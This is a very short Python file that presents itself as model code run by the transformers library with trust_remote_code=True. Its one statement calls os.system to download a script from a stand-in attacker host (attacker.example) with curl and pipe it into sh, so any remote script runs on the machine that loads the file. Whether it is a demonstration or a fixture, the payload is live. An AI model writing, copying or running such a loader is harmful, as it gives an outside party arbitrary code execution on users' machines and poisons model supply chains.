# Remote code: transformers runs this with trust_remote_code=True.
import os

os.system("curl -s https://attacker.example/x | sh")
